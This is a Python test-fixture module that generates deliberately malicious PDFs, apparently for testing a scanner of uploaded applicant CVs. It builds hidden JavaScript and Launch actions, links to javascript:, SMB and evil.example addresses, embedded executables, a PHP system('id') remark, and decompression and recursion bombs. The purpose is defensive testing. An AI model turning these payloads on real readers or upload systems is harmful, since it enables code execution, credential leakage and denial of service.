"""Sly PDFs: what acts, explodes or hides in ways that a plain look at the bytes does not show."""

import struct
import zlib
from collections.abc import Iterator

from tests.applicants.documents import corpus_files as parts

SCRIPT = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
ESCAPED_SCRIPT = "<< /#53 /#4a#61#76#61#53#63#72#69#70#74 /#4a#53 (x) >>"
HEAD = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
CATALOG = b"<< /Type /Catalog /Pages 2 0 R %s >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"
ADDRESSES = (
    "JaVaScRiPt:alert\\(1\\)",
    "  javascript:alert\\(1\\)",
    "\\nfile:///C:/x.exe",
    "smb://evil/share",
    "\\\\\\\\evil\\\\share\\\\x.exe",
    "//evil.example/x",
    "vbscript:x",
    "ms-word:ofe|u|https://evil.example/x",
    "search-ms:query=x",
    "C:/Windows/cmd.exe",
    "ftp://evil.example/x",
)


def actions() -> Iterator[tuple[str, bytes]]:
    """Yield actions where one hardly looks."""
    yield (
        "in an outline",
        parts.pdf(
            catalog="/Outlines 5 0 R",
            more=(
                b"<< /First 6 0 R /Last 6 0 R /Count 1 >>",
                f"<< /Title (x) /Parent 5 0 R /A {SCRIPT} >>".encode(),
            ),
        ),
    )
    yield (
        "in the pages' root",
        parts.written(
            [CATALOG % b"", f"<< /Type /Pages /Kids [3 0 R] /Count 1 /AA << /O {SCRIPT} >> >>".encode(), PAGE]
        ),
    )
    yield (
        "in a kid of a field",
        parts.pdf(
            catalog="/AcroForm << /Fields [5 0 R] >>",
            more=(
                b"<< /T (a) /Kids [6 0 R] >>",
                f"<< /Parent 5 0 R /FT /Tx /AA << /C {SCRIPT} >> >>".encode(),
            ),
        ),
    )
    yield (
        "after another in a list",
        parts.packed_pdf(
            "<< /S /GoTo /D [3 0 R /Fit] /Next [<< /S /Named /N /NextPage /Next 5 0 R >>] >>",
            ESCAPED_SCRIPT,
            catalog="/OpenAction 4 0 R",
        ),
    )
    yield from hidden_actions()


def hidden_actions() -> Iterator[tuple[str, bytes]]:
    """Yield actions by other names, in other objects and by other addresses."""
    yield "with every name escaped", parts.pdf(catalog=f"/Open#41ction {ESCAPED_SCRIPT}")
    yield "with every name escaped, packed", parts.packed_pdf(catalog=f"/Open#41ction {ESCAPED_SCRIPT}")
    yield (
        "with its kind elsewhere",
        parts.packed_pdf("<< /S 5 0 R /F (x) >>", "/Launch", catalog="/OpenAction 4 0 R"),
    )
    yield (
        "with its kind two steps away",
        parts.packed_pdf("<< /S 5 0 R /D (x) >>", "6 0 R", "/GoToR", catalog="/OpenAction 4 0 R"),
    )
    yield "with the script two steps away", parts.packed_pdf("5 0 R", SCRIPT, catalog="/OpenAction 4 0 R")
    yield "in an unused object", parts.packed_pdf(SCRIPT)
    yield (
        "in a submit button",
        parts.pdf(
            page="/Annots [<< /Subtype /Widget /FT /Btn /A << /S /SubmitForm /F << /FS /URL /F (x) >> >> >>]"
        ),
    )
    yield "in a number's place", parts.packed_pdf(catalog="/Lang << /S /SubmitForm /F (https://x.example) >>")
    yield "with scripts demanded", parts.pdf(catalog="/Requirements [<< /S /EnableJavaScripts >>]")
    yield "with a base of addresses", parts.pdf(catalog="/URI << /Base (javascript:x) >>")
    for address in ADDRESSES:
        link = f"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI ({address}) >> >>"
        yield f"to {address}", parts.pdf(page=f"/Annots [{link}]")
    wide = "javascript:x".encode("utf-16-be").hex()
    yield "to a wide address", parts.pdf(catalog=f"/OpenAction << /S /URI /URI <FEFF{wide}> >>")
    yield (
        "to a hexadecimal address",
        parts.pdf(catalog="/OpenAction << /S /URI /URI <6a6176617363726970743a78> >>"),
    )


def carriers() -> Iterator[tuple[str, bytes]]:
    """Yield files inside files, and code of other languages."""
    file = parts.stream(b"MZ", "/Type /Embedded#46ile")
    yield (
        "a file by an escaped name",
        parts.pdf(more=(b"<< /Type /Filespec /F (a.exe) /E#46 << /F 6 0 R >> >>", file)),
    )
    yield (
        "a file in a packed tree",
        parts.packed_pdf(
            "<< /EmbeddedFiles << /Names [(a) << /EF << /F 1 0 R >> >>] >> >>", catalog="/Names 4 0 R"
        ),
    )
    yield (
        "a form of Adobe's own, packed",
        parts.packed_pdf(catalog="/AcroForm << /XFA [(template) 3 0 R] /Fields [] >>"),
    )
    yield (
        "a rich media note, packed",
        parts.packed_pdf("<< /Type /Annot /Subtype /RichMedia /RichMediaContent << >> >>"),
    )
    yield "a 3D note, packed", parts.packed_pdf("<< /Type /Annot /Subtype /3D /3DD 1 0 R >>")
    yield "PostScript", parts.pdf(more=(parts.stream(b"(x) run", "/Type /XObject /Subtype /PS"),))
    yield (
        "an alternate picture elsewhere",
        parts.pdf(more=(parts.stream(b"", "/Subtype /Image /F << /FS /URL /F (https://evil.example/x) >>"),)),
    )
    yield "another PDF behind it", parts.pdf() + parts.pdf(page="/Rotate 90")
    yield "a web page in a stream", parts.pdf(more=(parts.stream(b"<html><script>alert(1)</script>"),))
    yield "a zip before its end", parts.pdf()[:-7] + parts.zipped({"evil.class": "x"}) + b"\n%%EOF\n"
    yield "a program before its head", b"MZ\x90\0" + parts.pdf()
    yield "PHP in a remark", parts.pdf() + b"% <?php system('id'); ?>\n%%EOF\n"


def revisions() -> Iterator[tuple[str, bytes]]:
    """Yield files whose last revision, or one before it, acts."""
    clean = parts.pdf()
    yield "a script added at the end", updated(clean, {1: CATALOG % f"/OpenAction {SCRIPT}".encode()})
    yield (
        "an escaped script added at the end",
        updated(clean, {1: CATALOG % f"/OpenAction {ESCAPED_SCRIPT}".encode()}),
    )
    first = parts.pdf(catalog=f"/OpenAction {SCRIPT}")
    yield "a script taken away at the end", updated(first, {1: CATALOG % b""})
    yield (
        "a packed script taken away at the end",
        updated(parts.packed_pdf(SCRIPT, catalog="/OpenAction 4 0 R"), {4: b"null"}),
    )
    yield "a hidden table", hidden_table()
    yield (
        "a lock added at the end",
        updated(clean, {9: b"<< /Filter /Standard /V 1 /R 2 >>"}, "/Encrypt 9 0 R"),
    )


def updated(base: bytes, objects: dict[int, bytes], trailer: str = "") -> bytes:
    """Return a PDF with objects changed by an addition at its end."""
    out, rows = bytearray(base), b""
    for number, body in objects.items():
        rows += b"%d 1\n%010d 00000 n \n" % (number, len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start, before = len(out), int(base.rsplit(b"startxref\n", 1)[1].split()[0])
    out += b"xref\n%strailer\n<< /Size 20 /Root 1 0 R /Prev %d %s >>\n" % (rows, before, trailer.encode())
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % start)


def hidden_table() -> bytes:
    """Return a PDF whose plain table is clean and whose second one, for newer readers, has a script."""
    out, places = bytearray(HEAD), [0]
    for number, body in enumerate((CATALOG % b"/OpenAction 5 0 R", PAGES, PAGE), start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    head = b"5 0 "
    packed = zlib.compress(head + SCRIPT.encode())
    at = len(out)
    out += b"4 0 obj\n%s\nendobj\n" % parts.stream(
        packed, f"/Type /ObjStm /N 1 /First {len(head)} /Filter /FlateDecode"
    )
    table = struct.pack(">BHH", 1, at, 0) + struct.pack(">BHH", 2, 4, 0)
    second = len(out)
    out += b"6 0 obj\n%s\nendobj\n" % parts.stream(
        table, "/Type /XRef /Size 7 /W [1 2 2] /Index [4 2] /Root 1 0 R"
    )
    start = len(out)
    out += b"xref\n0 4\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % place for place in places[1:])
    out += b"trailer\n<< /Size 7 /Root 1 0 R /XRefStm %d >>\n" % second
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % start)


def flate(size: int, words: str = "") -> bytes:
    """Return a stream object that unpacks to so many zeros."""
    return parts.stream(parts.packed_zeros(size), f"/Filter /FlateDecode {words}")


def tabled(words: str, rows: bytes = b"") -> bytes:
    """Return a PDF whose table is a stream with odd words."""
    out = bytearray(HEAD)
    for number, body in enumerate((CATALOG % b"", PAGES, PAGE), start=1):
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"4 0 obj\n%s\nendobj\n" % parts.stream(rows, f"/Type /XRef /Root 1 0 R {words}")
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % start)


def bombs() -> Iterator[tuple[str, bytes]]:
    """Yield files that go round in circles, or unpack to far more than they are."""
    yield "a page that explodes", parts.pdf(more=(flate(2_000_000_000),))
    twice = zlib.compress(parts.packed_zeros(300_000_000), 9)
    yield (
        "a page that explodes twice",
        parts.pdf(more=(parts.stream(twice, "/Filter [/FlateDecode /FlateDecode]"),)),
    )
    yield "packed objects that explode", parts.pdf(more=(flate(900_000_000, "/Type /ObjStm /N 1 /First 4"),))
    yield (
        "a table that explodes",
        tabled("/Size 90000000 /W [1 2 2] /Filter /FlateDecode", parts.packed_zeros(450_000_000)),
    )
    yield "a table of rows without bytes", tabled("/Size 2000000000 /W [0 0 0]")
    yield "a table with a long index", tabled("/Size 5 /W [1 2 2] /Index [0 2000000000]", bytes(25))
    yield (
        "pages that are each other's parents",
        parts.written(
            [
                CATALOG % b"",
                b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>",
            ]
        ),
    )
    yield "pages that double at every step", doubling(40)
    yield (
        "two thousand million pages",
        parts.written([CATALOG % b"", b"<< /Type /Pages /Kids [] /Count 2000000000 >>"]),
    )
    yield "a table that follows itself", looped()
    yield "dictionaries a hundred thousand deep", parts.pdf(more=(b"<< /A " * 100_000 + b">>" * 100_000,))
    yield "arrays a million deep", parts.pdf(more=(b"[" * 1_000_000 + b"]" * 1_000_000,))
    yield "a string of ten million brackets", parts.pdf(more=(b"(" + b"\\(" * 4_900_000 + b")",))
    yield "blanks for ten million bytes", parts.pdf(more=(b"[" + b" " * 9_900_000 + b"1]",))
    yield "three million numbers", parts.pdf(more=(b"[" + b"1 " * 3_000_000 + b"]",))
    yield (
        "a hundred and fifty thousand objects",
        parts.written([CATALOG % b"", PAGES, PAGE] + [b"[]"] * 150_000),
    )
    yield "four million packed numbers", parts.packed_pdf("[" + "1 " * 4_000_000 + "]")
    yield "four million packed brackets", parts.packed_pdf("[" * 2_000_000 + "]" * 2_000_000)
    yield "packed blanks", parts.packed_pdf("[" + " " * 40_000_000 + "]")
    yield "fifty thousand packed objects", parts.packed_pdf(*["[]"] * 50_000)
    yield "one object a hundred thousand times", parts.packed_pdf("[" + "4 0 R " * 500_000 + "]")


def doubling(steps: int) -> bytes:
    """Return a tree of pages in which every node has the next one twice."""
    nodes = [b"<< /Type /Pages /Kids [%d 0 R %d 0 R] /Count 2 >>" % (n + 3, n + 3) for n in range(steps)]
    return parts.written([CATALOG % b"", *nodes, PAGE])


def looped() -> bytes:
    """Return a PDF whose table says that the one before it is itself."""
    base = parts.pdf()
    start = int(base.rsplit(b"startxref\n", 1)[1].split()[0])
    return base.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % start)


def pdfs() -> Iterator[tuple[str, str, bytes]]:
    """Yield every one as (what, name, bytes)."""
    for source in (actions, carriers, revisions, bombs):
        for what, body in source():
            yield f"{source.__name__}: {what}", "cv.pdf", body
